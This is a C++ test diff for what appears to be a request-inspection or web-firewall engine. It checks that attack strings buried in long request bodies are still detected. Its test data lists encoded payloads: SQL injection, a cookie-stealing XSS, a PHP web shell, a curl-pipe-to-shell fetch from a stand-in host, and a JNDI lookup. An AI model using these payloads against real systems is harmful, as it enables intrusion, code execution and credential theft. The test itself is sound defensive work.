@@ -65,6 +65,32 @@ TEST_F(Places, TheRawPieceThatCarriedTheMatch) {
             "10000 file_name f [] m4rk\n10000 file f [] m4rk\n");
 }
 
+// What little around a change shows is judged in all that is judged of the text.
+TEST_F(Places, OfAChangeInALongText) {
+  std::string words;
+  for (int i = 0; i < 150; ++i) words += "w" + std::to_string(i * 7919) + "+";
+  EXPECT_EQ(inspect("GET /?a=" + words + "%256d4rk+" + words + " HTTP/1.1\r\n\r\n").substr(0, 35),
+            "10000 query a [plus|percent|percent");
+  EXPECT_EQ(verdict_.findings.size(), 1u);
+  EXPECT_GT(verdict_.findings[0].excerpt.size(), 200u);
+  std::string text;
+  for (int i = 0; i < 150; ++i) text += "word" + std::to_string(i * 7919) + " ";
+  constexpr std::string_view kAttacks[] = {
+      "1\\u0027 union select password from users-- -", "\\u003cscript>alert(document.cookie)</script>",
+      "\\u003c?php system($_GET[0]); ?>", "&#36;(curl http://a.example/x|sh)",
+      "%24{jndi:ldap://a.example/x}"};
+  const auto scratch = full_engine().make_scratch();
+  for (const std::string_view attack : kAttacks) {
+    for (const std::size_t before : {0u, 300u, 1200u}) {
+      const std::string bytes = "POST / HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n" +
+                                text.substr(0, before) + std::string(attack) + "\n" + text;
+      full_engine().inspect(split_request(bytes), *scratch, verdict_);
+      EXPECT_FALSE(verdict_.findings.empty()) << attack << " " << before;
+      EXPECT_FALSE(verdict_.limit_reached);
+    }
+  }
+}
+
 TEST_F(Places, PayloadAndExcerptAreBounded) {
   inspect("GET /?a=" + std::string(3000, 'x') + "m4rk" + std::string(3000, 'y') + " HTTP/1.1\r\n\r\n");
   ASSERT_EQ(verdict_.findings.size(), 1u);
